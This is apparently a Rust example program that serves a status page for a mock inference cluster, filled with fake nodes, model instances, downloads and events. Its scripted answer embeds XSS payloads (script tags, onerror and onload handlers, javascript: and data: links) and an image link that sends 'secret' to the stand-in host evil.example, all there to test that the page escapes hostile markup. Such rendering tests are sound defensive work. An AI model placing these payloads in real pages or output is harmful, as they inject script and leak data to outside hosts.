//! Serves the status page and the API in front of a scripted cluster, for viewing the page and for
//! testing clients: `cargo run -p serve --example status_page [PORT [fail]]`. With `fail`, answers
//! are lost midway.

#[path = "../tests/it/support/mod.rs"]
mod support;

use std::sync::Arc;
use std::time::Duration;

use cluster::{
    ClusterEvent, Edge, EventKind, InstanceState, InstanceStatus, NodeId, NodeState, NodeStatus,
    PairRequest, PullStage, PullStatus, RankStatus, Tone,
};
use protocol::{EngineStats, FinishReason, LinkStats, PageStats, RankStats, Transport};
use serve::{OwnProcess, ServeConfig, start};
use support::double::{Act, Double, fixture_with_template};
use support::server::ADMIN;
use support::sight::{header, with_tower};

const GIB: u64 = 1 << 30;

/// Template of a model that thinks before it answers.
const TEMPLATE: &str = "{% for message in messages %}<|im_start|>{{ message.role }}\n\
    {{ message.content }}<|im_end|>\n{% endfor %}<|im_start|>assistant\n\
    {% if enable_thinking is defined %}thinks{% endif %}{% if false %}<think></think>{% endif %}";

/// Pieces of an answer that the page must show correctly: Markdown, and hostile markup.
const ANSWER: [&str; 12] = [
    "<think>\nI should sketch the plan first.\n</think>\n\n",
    "### How it works\n\nThree machines share this answer: each holds **a slice of every layer**, ",
    "and after each layer they add their parts *together*.\n\n",
    "Nothing here is markup: <img src=x onerror=alert(1)> is text, <script>alert(2)</script> too. ",
    "So is [a link](javascript:alert(3)), and ![a picture](https://evil.example/p.png?q=secret).\n\n",
    "1. Read the [documents](https://example.com/docs \"there\").\n2. Ask `sinew top`.\n   - memory\n",
    "   - links\n\n> The more machines you add, the faster it gets, as long as the wires keep up.\n\n",
    "```rust\nfn main() {\n    println!(\"hello from {} machines\", 3);\n}\n```\n\n",
    "| machine | share |\n|---|---:|\n| desk | 62.5 % |\n| mac-mini | 37.5 % |\n\n",
    "- <svg onload=alert(4)>\n- [data](data:text/html,<script>alert(5)</script>)\n",
    "- <a href=\"javascript:alert(6)\">press me</a>\n\n",
    "That is all.",
];

#[tokio::main]
async fn main() -> Result<(), Box<dyn std::error::Error>> {
    let port = std::env::args().nth(1).map_or(Ok(8750), |port| port.parse())?;
    let mut script = Vec::new();
    for piece in ANSWER {
        script.extend([Act::Say(piece), Act::Pause(Duration::from_millis(120))]);
    }
    let fails = std::env::args().nth(2).is_some_and(|word| word == "fail");
    let lost = Act::Failed("node mac-mini was lost and nothing can take its place");
    script.push(if fails { lost } else { Act::Done(FinishReason::Stop) });
    let mmproj = header("qwen3vl-sees.mmproj.gguf");
    let seeing = with_tower(&fixture_with_template(TEMPLATE), &mmproj);
    let double = Arc::new(Double::with_header(seeing, &script));
    fill(&double);
    double.events.send_replace(Arc::new(happened().into()));
    tokio::spawn(work(Arc::clone(&double)));
    let mut config = ServeConfig::new(([127, 0, 0, 1], port).into(), ADMIN);
    config.own_process = Some(OwnProcess::new(|_, _| true));
    let folder = format!("sinew-page-{}", std::process::id());
    config.chats = Some(std::env::temp_dir().join(folder));
    let running = start(Arc::clone(&double) as Arc<dyn serve::Cluster>, config).await?;
    println!("http://{} (admin token {ADMIN})", running.addr());
    std::future::pending::<()>().await;
    Ok(())
}

/// A busy cluster: four nodes in three states, three instances in three.
fn fill(double: &Double) {
    let nodes = linked(nodes());
    let mut status = double.status.lock().expect("no panic holds it");
    status.node = nodes[0].id;
    let (id, name) = (NodeId([9; 32]), "studio".to_owned());
    let address = [192, 168, 1, 30].into();
    let at = nodes[0].name.clone();
    status.requests = vec![PairRequest { id, name, address, expires_in_secs: 280, at }];
    status.instances = instances(&nodes);
    status.nodes = nodes;
    status.notices =
        vec!["raspberry has been away for 12 minutes. Its memory is not counted".to_owned()];
}

/// A download from the hub, half done.
fn download() -> PullStatus {
    let (done_bytes, total_bytes) = (11 * GIB / 4, 47 * GIB / 10);
    PullStatus {
        model: "bartowski/Qwen2.5-7B-Instruct-GGUF:Q4_K_M".to_owned(),
        stage: PullStage::Pulling,
        note: "Q4_K_M is the best that fits: 5.9 of 36.0 GiB".to_owned(),
        file: "Qwen2.5-7B-Instruct-Q4_K_M.gguf".to_owned(),
        sha256: None,
        file_done_bytes: done_bytes,
        file_total_bytes: total_bytes,
        done_bytes,
        total_bytes,
        bytes_per_sec: 41e6,
    }
}

fn nodes() -> Vec<NodeStatus> {
    let node =
        |number: u8, name: &str, state, memory_gib, used_gib, threads, round_trip_us| NodeStatus {
            id: NodeId([number * 37; 32]),
            name: name.to_owned(),
            address: ([192, 168, 1, 10 + number], 8751).into(),
            state,
            drained: false,
            version: "0.1.0".to_owned(),
            memory_bytes: memory_gib * GIB,
            memory_used_bytes: used_gib * GIB,
            threads,
            device: None,
            round_trip_us,
            measured: true,
            machine: cluster::Machine::default(),
            sensors: cluster::Sensors::default(),
            edges: Vec::new(),
            uncalled: Vec::new(),
            downloads: Vec::new(),
            clock_ahead_ms: None,
        };
    vec![
        node(1, "desk", NodeState::Live, 64, 24, 16, None),
        node(2, "mac-mini", NodeState::Live, 24, 21, 10, Some(310)),
        node(3, "old-laptop-in-the-kitchen", NodeState::Suspect, 16, 6, 8, Some(4_200)),
        node(4, "raspberry", NodeState::Lost, 8, 0, 4, Some(1_900)),
    ]
}

/// Adds the links that the first node has measured to the others.
fn linked(mut nodes: Vec<NodeStatus>) -> Vec<NodeStatus> {
    let edge = |node: &NodeStatus| {
        let round_trip_us = node.round_trip_us? as f64 / 1.1;
        Some(Edge {
            peer: node.id,
            address: node.address.ip(),
            local: [192, 168, 1, 11].into(),
            round_trip_us,
            bytes_per_sec: 4e11 / round_trip_us,
            age_secs: 4,
            is_up: node.state != NodeState::Lost,
            is_rdma: false,
            packet_bytes: None,
        })
    };
    nodes[1].downloads = vec![download()];
    nodes[0].edges = nodes[1..].iter().filter_map(edge).collect();
    nodes
}

/// Each row: id, model, state, tokens per second, and its ranks as node, share, GiB loaded, GiB.
fn instances(nodes: &[NodeStatus]) -> Vec<InstanceStatus> {
    type Rank = (usize, u32, u64, u64);
    let instance = |id: &str, model: &str, state, rate, ranks: &[Rank]| {
        let whole_gib: u64 = ranks.iter().map(|rank| rank.3).sum();
        let ranks = ranks.iter().enumerate();
        let ranks = ranks.map(|(rank, (node, share, loaded_gib, total_gib))| RankStatus {
            rank,
            node: nodes[*node].id,
            node_name: nodes[*node].name.clone(),
            pid: Some(4000 + rank as u32),
            share: *share,
            percent: 100.0 * *total_gib as f64 / whole_gib as f64,
            memory_bytes: 6 << 30,
            loaded_bytes: loaded_gib * GIB,
            total_bytes: total_gib * GIB,
            kv_bytes: GIB,
            buffer_bytes: GIB / 16,
            stats: None,
        });
        InstanceStatus {
            id: id.to_owned(),
            model: model.to_owned(),
            digest: None,
            model_bytes: 0,
            file_nodes: Vec::new(),
            owner: nodes[0].id,
            state,
            epoch: 3,
            context_tokens: 262_144,
            created_unix_s: 0,
            transport: Transport::Tcp,
            ranks: ranks.collect(),
            requests_running: 2,
            requests_waiting: 0,
            has_generated: true,
            last_decode_tokens_per_sec: rate,
            stats: None,
            placement: vec![
                "19.00 GiB of weights and 2.00 GiB of cache, for 262144 tokens".to_owned(),
                "tensor over 2 nodes: predicted about 33 tokens/s; pipeline 21".to_owned(),
            ],
            prediction: None,
            notes: Vec::new(),
            replica_of: None,
            replicas_wanted: None,
            keep_alive: None,
            idle_since_unix_s: None,
            unloads_at_unix_s: None,
        }
    };
    let (loading, ready) = (InstanceState::Loading, InstanceState::Ready);
    let reason = "node old-laptop-in-the-kitchen has been silent for 3 s".to_owned();
    let recovering = InstanceState::Recovering { reason };
    let llama = "bartowski/Llama-3.3-70B-Instruct:q4_k_m";
    vec![
        instance("tiny-1", "tiny/qwen3", ready, Some(31.94), &[(0, 5, 12, 12), (1, 3, 7, 7)]),
        instance("llama-1", llama, loading, None, &[(0, 4, 9, 20), (1, 3, 14, 15), (2, 1, 1, 5)]),
        instance("phi-1", "phi-4", recovering, Some(12.0), &[(0, 1, 4, 4), (2, 1, 0, 4)]),
    ]
}

/// Updates the figures of a busy cluster every second.
async fn work(double: Arc<Double>) {
    for second in 1_u64.. {
        tokio::time::sleep(Duration::from_secs(1)).await;
        let mut status = double.status.lock().expect("no panic holds it");
        let instance = &mut status.instances[0];
        let generated_tokens = (second * 31 + second % 7 * 4) + second / 20 * 200;
        let mut stats = EngineStats { running: 2, generated_tokens, ..EngineStats::default() };
        stats.steps.count = generated_tokens;
        stats.pages = PageStats { positions: 64, total: 512, used: 143, cached: 60 };
        instance.stats = Some(stats);
        let ranks = instance.ranks.len();
        for rank in &mut instance.ranks {
            let (compute, wait) = if rank.rank == 0 { (17_400, 9_300) } else { (25_600, 1_100) };
            let link = LinkStats {
                peer: (rank.rank + 1) % ranks,
                sent_bytes: generated_tokens * 1_100_000,
                received_bytes: generated_tokens * 1_100_000,
                is_rdma: false,
            };
            rank.stats = Some(RankStats {
                compute_us: generated_tokens * compute,
                exchange_wait_us: generated_tokens * wait,
                step_wait_us: generated_tokens * 600,
                exchange_ns: Some(190_000),
                links: vec![link],
                ..RankStats::default()
            });
        }
    }
}

fn happened() -> Vec<ClusterEvent> {
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH);
    let now_ms = now.map_or(0, |since| since.as_millis() as u64);
    let event = |secs_ago: u64, kind, tone, text: &str| ClusterEvent {
        id: now_ms - secs_ago * 1000,
        at_ms: now_ms - secs_ago * 1000,
        kind,
        tone,
        text: text.to_owned(),
        node: None,
        model: None,
        times: None,
        replaces: None,
    };
    use EventKind::{ModelReady, ModelRecovering, NodeJoined, NodeLost, NodeSilent, Started};
    vec![
        event(90_000, Started, Tone::Info, "desk was started (sinew 0.1.0)"),
        event(89_000, NodeJoined, Tone::Good, "mac-mini is a member now"),
        event(3_600, ModelReady, Tone::Good, "tiny/qwen3 is ready on desk 62 %, mac-mini 38 %"),
        event(720, NodeLost, Tone::Error, "raspberry was lost"),
        event(8, NodeSilent, Tone::Warning, "old-laptop-in-the-kitchen is silent"),
        event(5, ModelRecovering, Tone::Warning, "phi-4 is recovering: a node has been silent"),
    ]
}
